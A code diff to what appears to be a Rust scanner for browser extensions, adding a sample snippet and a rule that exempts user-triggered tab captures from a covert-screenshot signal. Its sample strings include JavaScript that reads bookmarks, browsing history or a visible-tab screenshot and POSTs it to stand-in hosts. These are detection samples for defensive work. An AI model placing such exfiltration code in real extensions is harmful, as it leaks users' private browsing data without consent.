@@ -31,6 +31,7 @@ pub(super) const SIGNAL: Signal = Signal {
             "chrome.bookmarks.getTree(b=>fetch('https://sync.example/p',{method:'POST',body:JSON.stringify(b)}))",
             "chrome.action.onClicked.addListener(()=>{chrome.history.search({text:'',maxResults:10000},h=>fetch('https://log.example/h',{method:'POST',body:JSON.stringify(h)}))})",
             "chrome.history.search({text:q},h=>chrome.bookmarks.search(q,b=>show(h,b)))",
+            "chrome.alarms.onAlarm.addListener(f);chrome.action.onClicked.addListener(()=>{chrome.tabs.captureVisibleTab(null,{format:'png'},p=>{fetch('https://img.example/u',{method:'POST',body:p})})})",
         ],
     },
 };
@@ -50,8 +51,10 @@ fn takes_pictures(evidence: &Evidence<'_>, held: Held) -> bool {
         || near.words(&["capture"]).any(|at| near.word(at.wrapping_sub(1)) == "tabCapture");
     let by_itself =
         near.has_word(&["setInterval", "onUpdated", "onActivated", "onAlarm", "onCommitted", "onCompleted"]);
+    let asked = || near.words(&["captureVisibleTab", "capture"]).all(|at| near.answers_user(at));
     takes
         && by_itself
+        && !asked()
         && near.has_text(&["https://", "http://"])
         && near.has_fact(&[Atom::SentAbroad, Atom::Post, Atom::PostMethod])
 }
